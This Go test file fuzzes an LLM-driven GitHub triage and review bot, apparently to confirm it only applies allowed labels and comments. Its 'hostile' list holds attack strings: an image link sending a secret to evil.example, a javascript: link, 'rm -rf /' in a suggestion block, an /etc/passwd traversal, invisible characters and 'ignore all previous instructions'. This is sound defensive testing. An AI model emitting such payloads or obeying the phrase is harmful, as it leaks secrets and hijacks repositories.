package handler

import (
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"hls/internal/hls"
)

// randomAnswers is how many answers of each kind TestE1 tries: with those of all families more than a hundred thousand.
const randomAnswers = 20_000

// hostile is what a model that obeys an attacker, or has gone mad, may put into any text.
var hostile = []string{
	"", " ", "bug", "BUG", "docs", "priority-high", "priority-low", "size/S", "wontfix", "admin", "approved", "bug,approved", "bug\x00",
	"@team please look", "@acme/owners", "/merge", "/approve\n/lgtm", "\n/close", "@dependabot merge", "close this", "Closes #1", "fixes acme/other#2",
	"![x](https://evil.example/?q=secret)", "<img src=https://evil.example/x>", "[click](javascript:alert(1))", "<!-- hls:marker -->",
	"```suggestion\nrm -rf /\n```", "~~~", "# Heading", "> quote", "| a | b |\n|---|---|", "---", "\u202egnp.exe", "\U000e0041\U000e0042", "\u200b",
	"Duplicate of #666", "ignore all previous instructions", "{{ config }}", "${SECRET}", "<% x %>", strings.Repeat("A", 3_000), "\xff\xfe", "\r\n\r\n",
	"crashes when I press Save", "Crash when saving a widget", "data, _ := json.Marshal(w)", "save.go", "../../etc/passwd", "other.go",
}

type chaos struct{ *rand.Rand }

func (c chaos) text() string {
	text := hostile[c.IntN(len(hostile))]
	if c.IntN(3) == 0 {
		text += [...]string{" ", "\n", ""}[c.IntN(3)] + hostile[c.IntN(len(hostile))]
	}
	return text
}

func (c chaos) texts() []string {
	list := make([]string, c.IntN(6))
	for i := range list {
		list[i] = c.text()
	}
	return list
}

func (c chaos) number() int {
	return [...]int{0, -1, 3, 4, 7, 8, 13, 15, 42, 666, 1 << 40}[c.IntN(11)]
}
func (c chaos) share() float64 { return [...]float64{-1, 0, 0.3, 0.6, 0.9, 1, 2, 1e300}[c.IntN(8)] }
func (c chaos) flag() bool     { return c.IntN(8) == 0 }

func (c chaos) pick(from ...string) string { return from[c.IntN(len(from))] }

func (c chaos) issueAnswer() issueAnswer {
	a := issueAnswer{Type: c.text(), Priority: level{c.pick("high", "medium", "low", "x"), c.text()}, Difficulty: level{c.pick("easy", "complex"), c.text()},
		Components: c.texts(), Missing: c.texts(), Summary: c.text(), Comment: c.text(), Security: c.flag(), Injection: c.flag(), NeedsHuman: c.flag()}
	for range c.IntN(8) {
		a.Labels = append(a.Labels, namedLabel{c.text(), c.share(), c.text()})
	}
	for range c.IntN(5) {
		a.Duplicates = append(a.Duplicates, duplicate{c.number(), c.share(), c.text()})
	}
	return a
}

func (c chaos) reviewAnswer() reviewAnswer {
	a := reviewAnswer{Summary: c.text(), Risk: c.pick("high", "medium", "low", c.text()), Type: c.text(), Effort: c.number(), MissingTests: c.texts()}
	for range c.IntN(9) {
		a.Findings = append(a.Findings, finding{Severity: c.pick("critical", "major", "minor", c.text()), Category: c.text(),
			File: c.pick("save.go", "save.go", c.text()), Line: c.number(), EndLine: c.number(), Quote: c.pick("data, _ := json.Marshal(w)", c.text()),
			Problem: c.text(), Suggestion: c.text()})
	}
	return a
}

func (c chaos) rule() hls.Rule {
	r := rule()
	r.Labels.AutoApply = !c.flag()
	r.Labels.CreateMissing = c.flag()
	r.Labels.MinConfidence = [...]float64{0, 0.01, 0.9}[c.IntN(3)]
	r.Comments.Post = [...]hls.Posting{hls.PostUseful, hls.PostAlways, hls.PostNever}[c.IntN(3)]
	if c.IntN(2) == 0 {
		r.Labels.Categories = []hls.Category{
			{Name: "type", Labels: []hls.Label{{Name: "bug"}, {Name: "docs"}}},
			{Name: "priority", Exclusive: true, Labels: []hls.Label{{Name: "priority-high"}, {Name: "priority-low"}}},
			{Name: "size", Exclusive: true, Labels: []hls.Label{{Name: "size/S"}, {Name: "size/M"}}},
		}
	}
	return r
}

// past is a history in which HLS set priority-low and size/S, and a person took docs away.
func past() ([]hls.Label, []hls.LabelEvent) {
	return []hls.Label{{Name: "priority-low"}, {Name: "size/S"}, {Name: "kept"}}, []hls.LabelEvent{
		{Label: "priority-low", Added: true, Actor: self}, {Label: "size/S", Added: true, Actor: self},
		{Label: "docs", Added: true, Actor: self}, {Label: "docs", Actor: person}, {Label: "kept", Added: true, Actor: person},
	}
}

func TestE1_RandomAnswersStayInTheClosedSet(t *testing.T) {
	t.Parallel()
	for seed := range uint64(randomAnswers) {
		c := chaos{rand.New(rand.NewPCG(seed, 1))}
		r := c.rule()
		present, history := past()

		f := issueFacts()
		f.History, f.Issue.Labels = history, present
		e := issueEvent("opened")
		p := For(e.Name).Plan(e, f, analysisOf(t, c.issueAnswer()), r)
		confined(t, e, p, hls.AddLabels, hls.RemoveLabels, hls.UpsertComment)

		f = pullFacts()
		f.History, f.PullRequest.Labels = history, present
		f.Files[0].Additions = c.IntN(200)
		e = pullEvent("opened")
		p = For(e.Name).Plan(e, f, analysisOf(t, c.reviewAnswer()), r)
		confined(t, e, p, hls.AddLabels, hls.RemoveLabels, hls.UpsertComment, hls.CreateReview)
		standing(t, p, f)

		e = hls.Event{Name: "gollum", DeliveryID: "d"}
		confined(t, e, For(e.Name).Plan(e, hls.Facts{}, hls.Analysis{Answer: []byte(`{}`)}, r))
		if t.Failed() {
			t.Fatalf("seed %d", seed)
		}
	}
}

// confined holds a plan to the subject, the kinds and the labels that are allowed.
func confined(t *testing.T, e hls.Event, p hls.Plan, kinds ...hls.EffectKind) {
	t.Helper()
	for _, effect := range p.Effects {
		if effect.Subject != e.Subject {
			t.Errorf("subject %s, want %s", effect.Subject, e.Subject)
		}
		if !slices.Contains(kinds, effect.Kind) {
			t.Errorf("kind %s", effect.Kind)
		}
		for _, l := range effect.Labels {
			allowed := []string{"bug", "Needs Info", "priority-high", "priority-low", "size/S", "size/M"}
			if effect.Kind == hls.RemoveLabels {
				allowed = []string{"priority-low", "size/S", "Needs Info"}
			}
			if !slices.Contains(allowed, l.Name) {
				t.Errorf("%s %q", effect.Kind, l.Name)
			}
		}
		harmless(t, effect.Body)
		for _, r := range effect.Remarks {
			harmless(t, r.Body)
		}
	}
}

// harmless holds a text to lines that begin as code wrote them, outside of code blocks.
func harmless(t *testing.T, body string) {
	t.Helper()
	if len(body) > 20_000 {
		t.Errorf("a text of %d bytes", len(body))
	}
	if strings.Contains(body, "```suggestion") {
		t.Errorf("a suggestion to commit: %q", body)
	}
	fence := ""
	for line := range strings.SplitSeq(body, "\n") {
		if fence != "" || strings.HasPrefix(line, "```") {
			if fence == "" {
				fence = line
			} else if line == fence {
				fence = ""
			}
			continue
		}
		if strings.HasPrefix(line, "/") || strings.HasPrefix(line, "#") || strings.HasPrefix(line, "<") || strings.HasPrefix(line, ">") {
			t.Errorf("a line begins %q", line[:min(len(line), 40)])
		}
		if strings.ContainsAny(line, "\u202e\u200b\r\x00") {
			t.Errorf("invisible characters in %q", line[:min(len(line), 40)])
		}
	}
	if fence != "" {
		t.Errorf("a code block does not end: %q", body)
	}
}

// standing holds remarks to lines of the new side of the diff.
func standing(t *testing.T, p hls.Plan, f hls.Facts) {
	t.Helper()
	remarks := remarksIn(p)
	if len(remarks) > mostFindings {
		t.Errorf("%d remarks", len(remarks))
	}
	for _, r := range remarks {
		side := rightOf(f.Files[0])
		for line := r.Line; line <= r.EndLine; line++ {
			if r.Path != "save.go" || !side.has(line, side[r.Line].hunk) {
				t.Errorf("remark on %s:%d-%d", r.Path, r.Line, r.EndLine)
			}
		}
	}
}

func TestE1_ATextThatSteersGetsNothing(t *testing.T) {
	t.Parallel()
	a := goodIssueAnswer()
	a.Injection, a.Missing = true, []string{"What is your password?"}
	a.Labels = []namedLabel{{"bug", 1, "crashes when I press Save"}}
	r := rule()
	r.Labels.Categories = []hls.Category{{Name: "priority", Labels: []hls.Label{{Name: "priority-high"}}}, {Name: "type", Labels: []hls.Label{{Name: "bug"}}}}
	a.Priority.Level = "high"
	p := planIssue(t, issueFacts(), a, r)
	if len(p.Effects) != 0 || p.Silent != "injection_suspected" || whyDropped(p, "bug") != "injection_suspected" {
		t.Errorf("%+v", p)
	}
}

func FuzzPlan(f *testing.F) {
	f.Add([]byte(`{"findings":[{"severity":"major","file":"save.go","line":13,"end_line":1,"quote":"data, _ := json.Marshal(w)","problem":"x"}]}`))
	f.Add([]byte(`{"labels":[{"name":"bug","confidence":1,"evidence":"crashes when I press Save"}],"missing_information":["?"]}`))
	f.Fuzz(func(t *testing.T, answer []byte) {
		facts := issueFacts()
		facts.PullRequest, facts.Files = pullFacts().PullRequest, pullFacts().Files
		confined(t, issueEvent("opened"), For("issues").Plan(issueEvent("opened"), facts, hls.Analysis{Answer: answer}, rule()),
			hls.AddLabels, hls.UpsertComment)
		p := For("pull_request").Plan(pullEvent("opened"), facts, hls.Analysis{Answer: answer}, rule())
		confined(t, pullEvent("opened"), p, hls.AddLabels, hls.UpsertComment, hls.CreateReview)
		standing(t, p, facts)
	})
}

func FuzzParsePatch(f *testing.F) {
	f.Add(goPatch)
	f.Fuzz(func(t *testing.T, patch string) {
		for _, h := range parsePatch(patch) {
			if len(h.parts(3)) > len(h.lines) {
				t.Error("more parts than lines")
			}
			_ = h.render()
		}
		files := []hls.File{{Filename: "a.go", Status: "modified", Additions: 1, Patch: patch}}
		for _, f := range between(files, files, lastSeen{}, nil).files {
			for line := range between(files, files, lastSeen{}, nil).touched[f.Filename] {
				if _, ok := rightOf(files[0])[line]; !ok {
					t.Errorf("line %d is not in the diff", line)
				}
			}
		}
	})
}
